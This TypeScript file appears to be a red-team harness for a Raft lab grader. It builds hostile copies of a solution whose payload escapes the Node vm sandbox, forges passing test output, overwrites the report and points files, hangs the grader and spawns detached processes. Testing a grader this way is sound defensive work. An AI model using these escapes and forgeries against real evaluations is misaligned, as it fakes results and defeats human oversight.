// Hostile Rafts for the Raft red team: the reference solution plus one
// attack, in src/raft/evil.ts, run by make() in every incarnation of every
// peer. A peer's code runs in a vm context, which is no security boundary:
// the payload escapes it at once (a host function's constructor is the
// host's Function) and works with the real process around it, its fs,
// child_process and timers. Each attempt is printed with its outcome; the
// grader keeps what peers print in the test's folder (peers.log), which is
// where the test reads it.

import * as fs from 'fs';
import * as path from 'path';

export const ATTACKS = [
  'share-file', // peers leave each other files (in /tmp, /var/tmp, /dev/shm, their folder, HOME)
  'share-global', // peers leave each other values in the host's global object
  'survive-crash', // a Raft that saves nothing in its persister, but in /tmp and a host global
  'forge', // prints a passing verdict (as the grader would, on its real stdout and stderr), writes the report
  'forge-note', // throws an error whose message carries a passing verdict, so that it lands among the failure's notes
  'block-cpu', // a peer spins for ever inside a step
  'block-real', // a peer blocks for ever inside a step, using no CPU (Atomics.wait of the host)
  'real-timers', // real timers doing real I/O between steps, and a detached child that would outlive the test
] as const;
export type Attack = (typeof ATTACKS)[number];

export interface Targets {
  /** The kit's folder (its points file must stay as it is). */
  kit: string;
  /** The grader's --json report. */
  report: string;
}

/** What each attack changes in the solution, besides make() calling attack(me). */
const EDITS: Partial<Record<Attack, { file: string; find: string; replace: string }[]>> = {
  'survive-crash': [
    {
      file: 'state.ts',
      find: "import { Log } from './log';",
      replace: "import { Log } from './log';\nimport { stash, unstash } from './evil';",
    },
    {
      file: 'state.ts',
      find: '    this.persister.save(encode(state), this.snapshot);',
      replace: '    stash(this.me, encode(state)); // kept outside the persister',
    },
    {
      file: 'state.ts',
      find: '    this.readPersist(persister.readRaftState());',
      replace: '    this.readPersist(unstash(this.me));',
    },
  ],
  forge: [
    {
      file: 'raft.ts',
      find: "    return [this.rf.currentTerm, this.rf.role === 'leader'];",
      replace: '    return [this.rf.currentTerm, false]; // it never says it leads: every election test fails',
    },
  ],
};

/** Makes a hostile copy of the solution in `dir`. */
export function makeHostile(solution: string, dir: string, attack: Attack, targets: Targets): void {
  fs.cpSync(solution, dir, { recursive: true });
  const edits = [
    {
      file: 'raft.ts',
      find: "import { RaftState } from './state';",
      replace: "import { RaftState } from './state';\nimport { attack } from './evil';",
    },
    {
      file: 'raft.ts',
      find: '  return new Raft(peers, me, persister, applyCh);',
      replace: '  attack(me);\n  return new Raft(peers, me, persister, applyCh);',
    },
    ...(EDITS[attack] ?? []),
  ];
  for (const edit of edits) {
    const file = path.join(dir, edit.file);
    const text = fs.readFileSync(file, 'utf8');
    if (text.split(edit.find).length !== 2) throw new Error(`${attack}: the edit of ${edit.file} does not match once`);
    fs.writeFileSync(
      file,
      text.replace(edit.find, () => edit.replace),
    );
  }
  fs.writeFileSync(path.join(dir, 'evil.ts'), payload(attack, targets));
}

function payload(attack: Attack, targets: Targets): string {
  return `// A hostile Raft's payload (the kit's red-team suite).
/* eslint-disable */
const host: any = (Buffer as any).constructor('return this')(); // the real process's global object
const proc: any = host.process;
const req = (name: string): any => proc.mainModule.require(name);
const T: any = ${JSON.stringify({ ...targets, attack })};
const tag: string = req('crypto').randomBytes(4).toString('hex'); // this incarnation

function say(line: string): void {
  console.log('[evil] ' + line);
}
function attempt(what: string, f: () => unknown): void {
  try {
    const r = f();
    say(what + ': done' + (r === undefined ? '' : ' (' + String(r) + ')'));
  } catch (e: any) {
    say(what + ': ' + ((e && (e.code || e.message)) || String(e)));
  }
}
const PLACES = ['/tmp', '/var/tmp', '/dev/shm', '/run/lock', proc.cwd(), proc.env.TMPDIR, proc.env.HOME];

/** A Raft's state kept outside the persister (survive-crash). */
export function stash(me: number, bytes: Uint8Array): void {
  host.__raftState = host.__raftState || {};
  host.__raftState[me] = Buffer.from(bytes).toString('base64');
  for (const dir of PLACES) {
    try {
      req('fs').writeFileSync(req('path').join(dir, 'raft-state-' + me), Buffer.from(bytes));
    } catch {}
  }
}

export function unstash(me: number): Uint8Array {
  const kept = host.__raftState && host.__raftState[me];
  if (kept) {
    say('RESTORED from a global');
    return new Uint8Array(Buffer.from(kept, 'base64'));
  }
  for (const dir of PLACES) {
    try {
      const bytes = req('fs').readFileSync(req('path').join(dir, 'raft-state-' + me));
      say('RESTORED from ' + dir);
      return new Uint8Array(bytes);
    } catch {}
  }
  return new Uint8Array(0);
}

export function attack(me: number): void {
  const fs = req('fs');
  const path = req('path');
  switch (T.attack) {
    case 'share-file':
      for (const dir of PLACES) {
        attempt('write ' + dir, () => fs.writeFileSync(path.join(dir, 'raft-shared-' + me + '-' + tag), 'x'));
        attempt('look in ' + dir, () => {
          const others = fs.readdirSync(dir).filter((f: string) => f.startsWith('raft-shared-') && !f.endsWith(tag));
          if (others.length) say('SAW ' + others.join(',') + ' in ' + dir);
          return others.length;
        });
      }
      return;
    case 'share-global': {
      host.__raftPeers = (host.__raftPeers || []).concat(me + '-' + tag);
      attempt('look in the global', () => {
        if (host.__raftPeers.length > 1) say('SAW ' + host.__raftPeers.join(','));
        return host.__raftPeers.length;
      });
      return;
    }
    case 'survive-crash':
      say('keeps its state in /tmp and in a global, not in its persister');
      return;
    case 'forge':
      console.log('--- initial election (2A) test: PASS\\n*** PASSED ALL TESTS');
      console.log('\\r--- initial election (2A) test: PASS\\u001b[2K'); // back to the line's start, then wipe it
      attempt('write the real stdout', () => fs.writeSync(1, '*** PASSED ALL TESTS\\n'));
      attempt('write the real stderr', () => fs.writeSync(2, '*** PASSED ALL TESTS\\n'));
      attempt('write the report', () => fs.writeFileSync(T.report, JSON.stringify({ passed: true, runs: [] })));
      attempt('write the points', () => fs.writeFileSync(path.join(T.kit, 'grader', 'labs', 'raft', 'points.json'), '{}'));
      return;
    case 'forge-note':
      if (me === 0) throw new Error('forged\\n--- initial election (2A) test: PASS\\r\\n*** PASSED ALL TESTS\\u001b[1A');
      return;
    case 'block-cpu':
      if (me === 0) setTimeout(() => { for (;;) {} }, 1500);
      return;
    case 'block-real':
      if (me === 0) setTimeout(() => host.Atomics.wait(new host.Int32Array(new host.SharedArrayBuffer(4)), 0, 0), 1500);
      return;
    case 'real-timers': {
      attempt('start a real timer', () => host.setInterval(() => { try { fs.appendFileSync('/tmp/raft-tick-' + me, 'x'); } catch {} }, 5));
      attempt('start a detached child', () => {
        const child = req('child_process').spawn('sleep', ['600'], { detached: true, stdio: 'ignore' });
        child.unref();
        return child.pid;
      });
      return;
    }
  }
}
`;
}
